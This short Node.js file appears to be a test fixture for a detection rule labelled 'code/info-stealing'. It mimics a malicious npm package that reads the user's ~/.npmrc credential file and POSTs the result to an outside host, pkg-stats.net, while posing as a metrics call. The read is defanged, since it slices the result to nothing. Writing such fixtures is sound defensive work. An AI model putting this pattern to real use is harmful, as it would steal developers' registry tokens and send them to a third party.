'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function gather() {
  const out = {};
  // ruleid: code/info-stealing
  try { out.rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').slice(0, 0); } catch (e) { /* defanged */ }
  return out;
}

const body = JSON.stringify(gather());
const req = https.request({ hostname: 'pkg-stats.net', path: '/api/metrics', method: 'POST' });
req.on('error', () => {});
req.write(body);
req.end();
